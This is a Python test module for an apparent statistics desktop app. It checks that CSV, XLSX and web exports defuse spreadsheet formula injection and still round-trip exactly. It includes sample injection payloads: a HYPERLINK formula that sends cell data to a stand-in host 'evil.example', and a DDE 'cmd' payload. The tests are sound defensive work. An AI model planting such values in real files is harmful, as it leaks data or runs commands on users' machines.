"""Exports carry text, never formulas, and still read back exactly (issue 12).

Notes such as '=HYPERLINK(...)' became live formulas in XLSX exports and
were written verbatim to CSV exports and the public data.csv."""

from __future__ import annotations

import csv
import io
import shutil
import uuid
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from barometer_desktop.domain.periods import Period
from barometer_desktop.domain.spreadsheet_text import FORMULA_STARTS, neutralise, restore
from barometer_desktop.importing.export import export_values
from barometer_desktop.importing.service import import_file
from barometer_desktop.storage import catalog
from barometer_desktop.storage.database import open_database
from barometer_desktop.storage.observations import ObservationInput
from tests import stored_values

# (Stored notes are stripped, so a leading tab only shows in the neutralise tests.)
HOSTILE_NOTES = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                 "'allerede citeret", "''to", "'=citeret formel", "=1+1", "almindelig note", "-"]


def _save_notes(db, notes: list[str]) -> None:
    indicator = next(i.id for i in catalog.indicators(db) if i.code == "1.2")
    area = next(a.id for a in catalog.areas(db) if a.name == "København")
    stored_values.save(db, [
        ObservationInput(indicator, area, Period.year_of(2000 + i), 50.0 + i, note=note, note_is_public=i % 2 == 0)
        for i, note in enumerate(notes)
    ])


def test_neutralise_and_restore_are_inverse_on_the_edge_cases():
    for text in [*HOSTILE_NOTES, "", "'", "''", "'a", "a'", "\r", "=", "'\t"]:
        assert restore(neutralise(text)) == text
        assert not neutralise(text).startswith(FORMULA_STARTS)
    assert restore("'abc") == "'abc"  # a foreign apostrophe before an ordinary character stays
    assert restore("'=SUM(A1)") == "=SUM(A1)"  # what a spreadsheet shows for that cell


@given(st.text())
def test_neutralise_is_reversible_and_safe_for_any_text(text):
    assert restore(neutralise(text)) == text
    assert not neutralise(text).startswith(FORMULA_STARTS)


def test_csv_export_neutralises_formula_cells(policy_db, tmp_path):
    _save_notes(policy_db, HOSTILE_NOTES)
    target = tmp_path / "ud.csv"
    export_values(policy_db, target)
    rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8-sig")), delimiter=";"))
    notes = [row[7] for row in rows[1:]]
    assert not [n for n in notes if n.startswith(FORMULA_STARTS)]
    assert notes[0] == "'" + HOSTILE_NOTES[0] and notes[4] == "''allerede citeret"


def test_xlsx_export_writes_text_never_formulas(policy_db, tmp_path):
    _save_notes(policy_db, HOSTILE_NOTES)
    target = tmp_path / "ud.xlsx"
    export_values(policy_db, target)
    sheet = zipfile.ZipFile(target).read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet
    from openpyxl import load_workbook

    workbook = load_workbook(target)  # the full reader, as Excel sees the cells
    cells = [row[7] for row in workbook.active.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)
    formula_like = [cell for cell in cells if cell.value.startswith("=")]
    assert formula_like and all(cell.quotePrefix for cell in formula_like)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_hostile_notes_round_trip(policy_db, tmp_path, content_of, suffix, _policy_template):
    _save_notes(policy_db, HOSTILE_NOTES)
    target = tmp_path / f"ud{suffix}"
    export_values(policy_db, target)
    fresh = open_database(shutil.copyfile(_policy_template, tmp_path / "fresh.sqlite"), user_name="tester")
    try:
        report = import_file(fresh, target)
        assert report.written and not report.rejections
        assert content_of(fresh) == content_of(policy_db)
    finally:
        fresh.close()


# Notes as storage holds them: the entry grid strips them and keeps line breaks as "\n".
NOTES = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00\r"), max_size=40
).map(str.strip)
XLSX_NOTES = st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc"), whitelist_characters="\n\t"), max_size=40
).map(str.strip)
FORMULA_NOTES = st.builds(lambda start, rest: (start + rest).strip(), st.sampled_from(["=", "+", "-", "@", "'", "''"]),
                          NOTES)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data(), suffix=st.sampled_from([".csv", ".xlsx"]))
def test_generated_notes_round_trip_exactly(_policy_template, tmp_path_factory, content_of, data, suffix):
    notes = data.draw(st.lists(st.one_of(NOTES if suffix == ".csv" else XLSX_NOTES, FORMULA_NOTES), min_size=1,
                               max_size=6))
    if suffix == ".xlsx":
        notes = [n for n in notes if not any(ord(c) < 32 and c not in "\n\t" for c in n)]
    folder = tmp_path_factory.mktemp("roundtrip")
    source = open_database(shutil.copyfile(_policy_template, folder / f"{uuid.uuid4().hex}.sqlite"), user_name="t")
    target_db = open_database(shutil.copyfile(_policy_template, folder / f"{uuid.uuid4().hex}.sqlite"), user_name="t")
    try:
        _save_notes(source, notes)
        exported = folder / f"ud{suffix}"
        export_values(source, exported)
        if suffix == ".csv":
            cells = [row[7] for row in csv.reader(io.StringIO(exported.read_text(encoding="utf-8-sig")), delimiter=";")]
            assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
        report = import_file(target_db, exported)
        assert report.written and not report.rejections
        assert content_of(target_db) == content_of(source)
    finally:
        source.close()
        target_db.close()


def test_web_data_csv_neutralises_text_cells(demo_db, tmp_path):
    from sqlalchemy import select

    from barometer_desktop.publishing.web_barometer import publish_from_database
    from barometer_desktop.storage.models import Area, Indicator

    with demo_db.transaction() as session:
        session.scalars(select(Indicator).where(Indicator.code == "7.1")).one().name = '=HYPERLINK("http://x","Klik")'
        session.scalars(select(Area).where(Area.name == "Aarhus")).one().name = "@Aarhus"
    site = publish_from_database(demo_db, 2013, tmp_path / "web")
    rows = list(csv.reader((site / "data.csv").read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
    text_cells = [cell for row in rows for cell in (row[1], row[2], row[3], row[6])]
    assert not [cell for cell in text_cells if cell.startswith(FORMULA_STARTS)]
    assert "'=HYPERLINK(\"http://x\",\"Klik\")" in text_cells and "'@Aarhus" in text_cells
    assert all(not row[5].startswith("'") for row in rows[1:])  # figures stay numbers
